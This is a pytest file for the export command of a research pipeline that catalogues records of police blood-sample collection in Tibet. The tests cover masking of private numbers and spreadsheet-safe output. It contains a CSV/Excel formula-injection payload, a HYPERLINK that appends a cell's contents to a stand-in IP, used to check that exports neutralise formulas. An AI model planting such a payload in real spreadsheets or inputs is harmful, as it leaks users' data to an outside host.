"""Every export opened again by the library its users use; hostile and private words in it do no harm."""

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from cli import app
from pipeline.batch.judged import Judged
from pipeline.batch.store import Store
from pipeline.exports import export as export_module
from pipeline.exports.tables import TABLES
from pipeline.records import Record

PHONE, CARD = "13812345678", "542121199001011234"
TEXT = f"昨日，察雅县公安局在吉塘镇采集血样312份，联系人扎某，电话{PHONE}，身份证{CARD}。此举为维护社会稳定。"
HOSTILE = '=HYPERLINK("http://198.51.100.1/?"&A1,"点我")'
FORMS = ("csv", "xlsx", "parquet", "geojson", "ftm")


def xueyang(*arguments: str | Path) -> Result:
    return CliRunner().invoke(app, [str(a) for a in arguments])


def located(words: str, **facts: Any) -> dict[str, Any]:
    start = TEXT.index(words)
    return {"text": words, "start": start, "end": start + len(words), "page": 1, "boxes": [[1, 2, 3, 4]], **facts}


def record(path: str, **changes: Any) -> Record:
    """An invented record of a collection in 吉塘镇; `changes` by field, `document` fields merged."""
    mark = f"{sum(path.encode()):02x}"[-2:] * 32
    body: dict[str, Any] = {
        "id": mark,
        "cluster": mark,
        "source": {
            "path": path, "sha256": mark, "bytes": 10, "media_type": "application/pdf", "pages": 1,
            "text_layer": "embedded", "archived_url": "http://example.org/a?b=1",
            "archived_at": "2021-10-12T08:22:13Z",
        },
        "document": {
            "title": "采集血样", "publisher": "平安察雅", "source_type": "wechat_account", "published": "2018-03-14",
            "script": "simplified", "text": TEXT, **changes.pop("document", {}),
        },
        "classification": {
            "label": "mass_collection", "campaign": "tibet_population",
            "scores": {"mass_collection": 0.9, "other": 0.1}, "needs_review": True, "model": "m 1",
            "evidence": [located(TEXT, weight=2.0)],
        },
        "counts": [located("312份", kind="samples", value=312, upper=None, qualifier="exact", place="吉塘镇",
                           as_of="2018-03-13", score=0.625)],
        "places": [located("吉塘镇", adcode="540325", name="西藏自治区昌都市察雅县", township="吉塘镇", village=None,
                           name_en="Zhag'yab County, Qamdo, Tibet AR")],
        "justifications": [located("维护社会稳定", code="social_stability")],
        "groups": ["residents"],
        "organisations": [
            located("察雅县公安局", name="察雅县公安局", kind="police", adcode="540325", role="collector"),
            {"text": "某基因公司", "name": "某基因公司", "kind": "company", "role": "supplier"},
        ],
        "circumstances": [located("在吉塘镇", aspect="venue", code="home_visits")],
        "procurements": [
            located("312份", part="whole", status="awarded", buyer="察雅县公安局", supplier="某基因公司",
                    product="血卡", amount=95600.5, amount_kind="award"),
        ],
        "warnings": [],
    }  # fmt: skip
    return Record.model_validate({**body, **changes})


FIRST = record("a.pdf")
COPY = record("b.pdf", cluster=FIRST.id, document={"published": "2018-03-15"})
BAD = record("c.pdf", document={"title": HOSTILE, "publisher": f"@电话{PHONE}", "text": TEXT + "\x0b尾"})
ELSEWHERE = FIRST.places[0].model_copy(update={"adcode": "659099", "name": "无此地", "township": None, "name_en": None})
NOWHERE = record("d.pdf", document={"title": None, "published": None}, places=[ELSEWHERE.model_dump()], groups=[])


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    """A run directory of four records, none reviewed."""
    run = tmp_path / "run"
    run.mkdir()
    store = Store.of(run)
    for one in (FIRST, COPY, BAD, NOWHERE):
        store.put(one, "key")
    store.close()
    return run


@pytest.fixture
def reviewed(directory: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The same after a reviewer has changed the first record: another figure and label, a group more, no reason."""
    classification = FIRST.classification.model_copy(update={"label": "casework", "campaign": None})
    changed = FIRST.model_copy(
        update={
            "classification": classification,
            "counts": (FIRST.counts[0].model_copy(update={"value": 321, "score": None}),),
            "justifications": (),
            "groups": ("residents", "herders"),
        }
    )

    def judged(run: Path, store_url: str | None = None) -> Iterator[Judged]:
        assert run == directory
        yield Judged(changed, FIRST, ("央金",), "央金", frozenset({"groups:residents"}))
        yield Judged(COPY, COPY)

    monkeypatch.setattr(export_module, "judged", judged)
    return directory


def exported(directory: Path, form: str, name: str) -> Path:
    out = directory.parent / name
    result = xueyang("export", directory, "--format", form, "--out", out)
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(("2 documents", "4 documents"))
    return out


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_is_a_folder_of_tables(directory: Path) -> None:
    out = exported(directory, "csv", "tables")
    assert {file.stem for file in out.iterdir()} == {*TABLES, "columns"}
    documents = rows(out / "documents.csv")
    assert [row["path"] for row in documents] == ["a.pdf", "b.pdf", "c.pdf", "d.pdf"]
    assert [row["repost"] for row in documents] == ["false", "true", "false", "false"]
    assert documents[0]["label_en"].startswith("police-led collection")
    assert documents[0]["places_en"] == "Zhag'yab County, Qamdo, Tibet AR"
    count = rows(out / "counts.csv")[0]
    assert (count["value"], count["kind_en"]) == ("312", "samples taken or people sampled")
    assert (list(count)[-1], count["score"]) == ("score", "0.625")
    assert (count["adcode"], count["place_en"]) == ("540325", "Zhag'yab County, Qamdo, Tibet AR")
    assert (count["status"], count["holds"], json.loads(count["boxes"])) == ("proposed", "true", [[1, 2, 3, 4]])
    reason = rows(out / "reasons.csv")[0]
    assert (reason["code_en"], reason["text_en"]) == ("social stability", "stability")
    how = rows(out / "circumstances.csv")[0]
    assert (how["aspect"], how["code_en"], how["text"]) == ("venue", "at people's homes", "在吉塘镇")
    bought = rows(out / "procurements.csv")[0]
    assert (bought["amount"], bought["amount_kind_en"], bought["product_en"]) == (
        "95600.5", "price awarded", "blood cards"
    )  # fmt: skip
    assert documents[0]["circumstances_en"] == "at people's homes"
    assert "supplier 某基因公司; 95,600.5 yuan (price awarded)" in documents[0]["procurements_en"]
    assert "bought blood cards for 95,600.5 yuan" in rows(out / "organisations.csv")[0]["did_en"]
    described = {(row["table"], row["column"]) for row in rows(out / "columns.csv")}
    assert described == {(name, column.name) for name, columns in TABLES.items() for column in columns}


def test_csv_named_as_a_file_is_that_file(directory: Path) -> None:
    out = exported(directory, "csv", "findings.csv")
    assert len(rows(out)) == 4
    assert len(rows(out.with_name("findings_counts.csv"))) == 4


def test_xlsx_has_a_sheet_a_table_with_filters_and_frozen_headers(directory: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(exported(directory, "xlsx", "findings.xlsx"))
    assert book.sheetnames == [*TABLES, "columns"]
    for name, columns in TABLES.items():
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        assert [cell.value for cell in sheet[1]] == [column.name for column in columns]
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(columns)).column_letter}{sheet.max_row}"
    assert book["documents"].max_row == 5
    header = [cell.value for cell in book["counts"][1]]
    assert book["counts"].cell(2, header.index("value") + 1).value == 312
    assert book["counts"].cell(2, len(header)).value == 0.625


def test_spreadsheets_run_nothing(directory: Path) -> None:
    from openpyxl import load_workbook

    book = load_workbook(exported(directory, "xlsx", "findings.xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == "'" + HOSTILE for cell in cells)
    words = [value for row in rows(exported(directory, "csv", "tables") / "documents.csv") for value in row.values()]
    assert "'" + HOSTILE in words
    for value in [*words, *(cell.value for cell in cells)]:
        assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_parquet_opens_typed_in_pandas_and_keeps_the_words(directory: Path) -> None:
    pandas = pytest.importorskip("pandas")
    out = exported(directory, "parquet", "tables")
    documents, counts = pandas.read_parquet(out / "documents.parquet"), pandas.read_parquet(out / "counts.parquet")
    assert list(documents["repost"]) == [False, True, False, False]
    assert documents["title"][2] == HOSTILE
    assert documents["score"].dtype == "float64"
    assert counts.merge(documents, on="path")["value"].sum() == 4 * 312
    for name, columns in TABLES.items():
        assert list(pandas.read_parquet(out / f"{name}.parquet").columns) == [column.name for column in columns]


def test_geojson_opens_in_shapely_where_the_places_lie(directory: Path) -> None:
    shapely = pytest.importorskip("shapely.geometry")
    found = json.loads(exported(directory, "geojson", "map.geojson").read_text("utf-8"))
    assert found["type"] == "FeatureCollection"
    near, nowhere = found["features"][0], found["features"][-1]
    point = shapely.shape(near["geometry"])
    assert point.distance(shapely.Point(97.57, 30.65)) < 0.01
    said = near["properties"]
    assert (said["precision"], said["name_en"]) == ("county", "Zhag'yab County, Qamdo, Tibet AR")
    assert (said["counts"], said["largest_samples"]) == ("312份 (samples)", 312)
    assert [f["properties"]["repost"] for f in found["features"]] == [False, True, False, False]
    assert nowhere["geometry"] is None
    assert nowhere["properties"]["name"] == "无此地"


def entities(path: Path) -> list[Any]:
    """The entities as FollowTheMoney reads them, each checked by its own validation."""
    from followthemoney import model

    found = []
    for line in path.read_text("utf-8").splitlines():
        data = json.loads(line)
        model.get(data["schema"]).validate(data)
        entity = model.get_proxy(data, cleaned=False)
        for prop, value in entity.itervalues():
            assert prop.type.validate(value), (prop.name, value)
        found.append(entity)
    return found


def test_ftm_entities_are_valid_and_have_proof(directory: Path) -> None:
    pytest.importorskip("followthemoney")
    found = entities(exported(directory, "ftm", "entities.ftm.json"))
    by_id = {entity.id: entity for entity in found}
    assert len(by_id) == len(found)
    by_schema = {name: [e for e in found if e.schema.name == name] for name in ("Pages", "PublicBody", "Event")}
    assert {name: len(some) for name, some in by_schema.items()} == {"Pages": 4, "PublicBody": 1, "Event": 3}
    event = next(e for e in by_schema["Event"] if len(e.get("proof")) == 2)
    assert event.get("organizer") == [by_schema["PublicBody"][0].id]
    assert event.first("date") == "2018-03-14"
    assert "312份: samples taken or people sampled (doubtful)" in event.get("summary")
    for entity in (*by_schema["Event"], *by_schema["PublicBody"]):
        assert entity.get("proof")
        assert all(by_id[proof].schema.is_a("Document") for proof in entity.get("proof"))
    assert by_schema["PublicBody"][0].caption == "察雅县公安局"
    assert any("bought blood cards" in note for note in by_schema["PublicBody"][0].get("notes"))
    award = next(entity for entity in found if entity.schema.name == "ContractAward")
    assert (award.first("amount"), award.first("currency")) == ("95600.5", "CNY")
    contract, supplier = by_id[award.first("contract")], by_id[award.first("supplier")]
    assert contract.first("authority") == by_schema["PublicBody"][0].id
    assert supplier.caption == "某基因公司"


@pytest.mark.parametrize("form", FORMS)
def test_private_numbers_are_starred(directory: Path, form: str) -> None:
    out = exported(directory, form, "out.xlsx" if form == "xlsx" else f"out-{form}")
    words = everything(out, form)
    assert PHONE not in words
    assert CARD not in words
    if form != "geojson":  # it holds no text
        assert "138********" in words
        assert "542121************" in words


def everything(out: Path, form: str) -> str:
    """All the words of an export."""
    if form == "xlsx":
        from openpyxl import load_workbook

        return "\n".join(str(cell.value) for sheet in load_workbook(out) for row in sheet.iter_rows() for cell in row)
    files = sorted(out.iterdir()) if out.is_dir() else [out]
    if form == "parquet":
        import pyarrow.parquet as pq

        return "\n".join(str(pq.read_table(file).to_pylist()) for file in files)
    return "\n".join(file.read_text("utf-8") for file in files)


def test_what_was_proposed_stays_beside_what_was_decided(reviewed: Path) -> None:
    out = exported(reviewed, "csv", "tables")
    document = rows(out / "documents.csv")[0]
    assert (document["label"], document["label_proposed"]) == ("casework", "mass_collection")
    assert (document["campaign"], document["campaign_proposed"]) == ("", "tibet_population")
    assert (document["label_by"], document["reviewed_by"], document["reasons"]) == ("央金", "央金", "")
    first = {name: [row for row in rows(out / f"{name}.csv") if row["path"] == "a.pdf"] for name in TABLES}
    assert [(r["value"], r["status"], r["holds"], r["score"]) for r in first["counts"]] == [
        ("321", "added", "true", ""), ("312", "rejected", "false", "0.625"),
    ]  # fmt: skip
    assert [(r["code"], r["status"]) for r in first["reasons"]] == [("social_stability", "rejected")]
    # Nobody judged the place, so it is as sure as the program is, though the document was reviewed.
    assert [(r["township"], r["status"], r["holds"]) for r in first["places"]] == [("吉塘镇", "proposed", "true")]
    assert [(r["group"], r["status"]) for r in first["groups"]] == [("residents", "confirmed"), ("herders", "added")]


def test_a_rejected_collection_is_no_event(reviewed: Path) -> None:
    pytest.importorskip("followthemoney")
    found = entities(exported(reviewed, "ftm", "entities.json"))
    event = next(entity for entity in found if entity.schema.name == "Event")
    assert len(event.get("proof")) == 1
    notes = [note for entity in found if entity.schema.name == "Pages" for note in entity.get("notes")]
    assert "label casework: reviewed by 央金" in notes


def test_wrong_places_are_one_line(directory: Path, tmp_path: Path) -> None:
    for run, out, status, says in (
        (tmp_path / "none", tmp_path / "x", 2, "no such run directory"),
        (tmp_path, tmp_path / "x", 2, "xueyang.db"),
        (directory, directory / "xueyang.db" / "x.csv", 1, "cannot be written"),
    ):
        result = xueyang("export", run, "--format", "csv", "--out", out)
        assert result.exit_code == status, result.output
        assert result.stderr.count("\n") == 1
        assert says in result.stderr
    assert not (tmp_path / "xueyang.db").exists()


@pytest.mark.parametrize(
    ("form", "name"),
    [
        ("xlsx", "x.csv"),
        ("xlsx", "x"),
        ("csv", "x.xlsx"),
        ("parquet", "x.csv"),
        ("geojson", "x.xlsx"),
        ("ftm", "x.csv"),
    ],
)
def test_a_file_named_as_another_format_is_refused(directory: Path, form: str, name: str) -> None:
    out = directory.parent / name
    if form in ("parquet", "ftm"):
        pytest.importorskip({"parquet": "pyarrow", "ftm": "followthemoney"}[form])
    result = xueyang("export", directory, "--format", form, "--out", out)
    assert result.exit_code == 2, result.output
    assert result.stderr.count("\n") == 1
    assert f"--format {form} ends in .{form}" in result.stderr
    assert not out.exists()


def test_a_folder_of_tables_may_have_a_dot_in_its_name(directory: Path) -> None:
    assert (exported(directory, "csv", "tables.2021") / "documents.csv").is_file()


def test_nothing_half_written_is_left(directory: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = directory.parent / "findings.csv"
    out.write_text("of yesterday")

    def judged(run: Path, store_url: str | None = None) -> Iterator[Judged]:
        yield Judged(FIRST, FIRST)
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_module, "judged", judged)
    result = xueyang("export", directory, "--format", "csv", "--out", out)
    assert result.exit_code == 1
    assert "No space left" in result.stderr
    assert out.read_text() == "of yesterday"
    assert sorted(file.name for file in directory.parent.iterdir()) == ["findings.csv", "run"]
